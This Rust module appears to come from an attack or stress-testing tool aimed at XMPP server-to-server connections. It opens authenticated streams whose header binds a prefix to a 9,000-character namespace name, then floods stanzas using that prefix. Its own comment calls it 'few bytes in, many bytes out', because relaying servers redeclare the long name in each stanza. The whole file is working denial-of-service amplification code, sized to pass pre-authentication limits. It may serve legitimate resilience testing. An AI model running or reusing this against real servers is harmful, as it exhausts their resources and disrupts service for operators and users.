//! Few bytes in, many bytes out: a prefix that the stream header binds to a long name, and stanzas that use it. A
//! server that relays them declares the name again in each.

use s2s_peer::error::Result;
use s2s_peer::namespace::{DIALBACK, SERVER, STREAMS};

use super::aim::{Aim, Opened};
use super::connections::{message, opened_for_writing, repeat};
use super::tally::Tally;

/// Characters of the name. With the header, they are fewer than servers accept before authentication.
const NAME_CHARACTERS: usize = 9_000;
/// Number of stanzas in one write.
const BATCH: usize = 100;

/// Sends such a header and stanzas on streams that are already authenticated.
pub(super) fn namespaces(aim: &Aim, tally: &Tally) -> Result<()> {
    let tls = aim.tls()?;
    let name = "n".repeat(NAME_CHARACTERS);
    let header = format!(
        "<stream:stream xmlns='{SERVER}' xmlns:db='{DIALBACK}' xmlns:stream='{STREAMS}' \
         xmlns:p='{name}' version='1.0' from='{}' to='{}'>",
        aim.from, aim.domain
    );
    let stanzas = message(&aim.from, &aim.domain, 1, "<p:x/>").repeat(BATCH);
    repeat(aim, tally, |_, _| {
        let Opened { mut stream, .. } =
            aim.authenticated_with(&aim.from, &tls, tally, |stream| stream.send(&header))?;
        opened_for_writing(&mut stream)?;
        while !tally.is_over() {
            stream.send(&stanzas)?;
            tally.sent(stanzas.len());
        }
        Ok(())
    });
    Ok(())
}
